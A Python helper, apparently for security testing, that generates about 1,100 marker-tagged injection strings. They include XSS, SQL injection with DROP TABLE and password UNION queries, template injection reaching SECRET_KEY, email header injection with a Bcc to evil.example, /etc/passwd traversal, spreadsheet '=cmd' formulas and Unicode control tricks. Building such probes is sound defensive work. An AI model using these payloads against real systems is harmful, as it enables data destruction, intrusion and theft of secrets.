"""Eleven hundred ways to make text more than text, made from classes of our own.

Each carries MARK, so that a page, a header, a file or a table in which it took effect is found.
"""

import itertools

MARK = "zqx7"
TAGS = (
    "<script>{m}</script>", "<{m}>", '"><{m} x="', "'><{m} x='", "<img src=x onerror={m}>",
    "<svg/onload={m}>", "</textarea><{m}>", "</title><{m}>", "</script><{m}>", "<!--<{m}>-->",
    "<a href=javascript:{m}>", "<iframe srcdoc='<{m}>'>", "<style>@import '{m}'</style>",
    '" onfocus={m} autofocus x="', "' onmouseover={m} '", "<math><mtext><{m}>", "&lt;{m}&gt;",
    "<base href=//{m}.example>", "<form action=//{m}.example>", "<meta http-equiv=refresh {m}>",
)  # fmt: skip
SQL = (
    "' OR '1'='1 {m}", "'; DROP TABLE calls_call; -- {m}", '" OR ""="{m}', "1) OR (1=1 {m}",
    "' UNION SELECT password FROM accounts_user -- {m}", "\\'; {m}", "%' {m}", "_%{m}%_",
    "'||(SELECT '{m}')||'", "0x27 {m}", "'/**/OR/**/1=1#{m}", "$$;{m}$$",
)  # fmt: skip
TEMPLATES = (
    "{{{{ 7|add:7 }}}} {m}", "{{% debug %}} {m}", "{{{{ settings.SECRET_KEY }}}} {m}",
    "{{days_detained}} {m}", "{{0.__class__}} {m}", "%(name)s {m}", "%s%s%n {m}", "${{7*7}} {m}",
    "#{{7*7}} {m}", "<%= 7*7 %> {m}", "{{{{request.user}}}} {m}",
    "{{person.__init__.__globals__}} {m}",
)  # fmt: skip
HEADERS = (
    "{m}\r\nBcc: {m}@evil.example", "{m}\nX-{m}: 1", "{m}\r\n\r\n<{m}>", "{m}%0d%0aX-{m}: 1",
    "{m}\u2028X-{m}: 1", "{m}\x85X-{m}: 1", "{m}\x0bX-{m}: 1", "=?utf-8?q?{m}=0aX-{m}:_1?=",
    "a@example.org, {m}@evil.example", "\"{m}\r\n\"@example.org",
)  # fmt: skip
PATHS = (
    "../../../../etc/passwd {m}", "..\\..\\{m}", "/etc/passwd\x00{m}.png", "file:///etc/{m}",
    "%2e%2e%2f{m}", "....//....//{m}", "~root/{m}", "C:\\{m}", "\\\\{m}.example\\share",
    "https://{m}.example/", "//{m}.example", "javascript:{m}", "data:text/html,{m}",
)  # fmt: skip
FORMULAS = (
    "=HYPERLINK(\"https://{m}.example\")", "+1+{m}", "-2+{m}", "@SUM({m})", "\t={m}", "\r={m}",
    " ={m}", "＝{m}", "=cmd|' /C {m}'!A0", "'={m}", "\u200b={m}", "%0A={m}", "|{m}",
)  # fmt: skip
TYPST = (
    "#panic(\"{m}\")", "#read(\"/etc/passwd\") {m}", "$ {m} $", "*{m}* _x_", "= {m}",
    "#import \"@preview/{m}:1\"", "[{m}](x)", "#let x = {m}", "\\u{{41}} {m}", "// {m}",
    "/* {m} */",
    "<{m}> @{m}",
    "#sys.inputs {m}",
)  # fmt: skip
MARKS = (
    "\u202e{m}\u202c", "\u2066{m}\u2069", "\ufeff{m}", "{m}\x00", "{m}\x1b[31m", "\ud7a3{m}\u1160",
    "{m}\U000e0041", "Z\u0351\u0320{m}", "\u200d{m}\u200c", "{m}\x7f\x08", "𝕫{m}", "İ{m}ß",
)  # fmt: skip
CLASSES = (TAGS, SQL, TEMPLATES, HEADERS, PATHS, FORMULAS, TYPST, MARKS)
AROUND = (
    "{p}", "a {p}", "{p} b", "Dear Minister, {p} yours", "이름 {p}", "{p}{p}", "\n{p}\n", "({p})",
    "O'Brien {p}", "-- {p}", "«{p}»",
)  # fmt: skip


def payloads(count: int = 1100) -> list[str]:
    """`count` different ones, every class and every surrounding among them."""
    shapes = [shape.format(m=MARK) for kind in CLASSES for shape in kind]
    made = [around.replace("{p}", shape) for around, shape in itertools.product(AROUND, shapes)]
    different = list(dict.fromkeys(made))
    step = max(1, len(different) // count)
    return different[::step][:count]
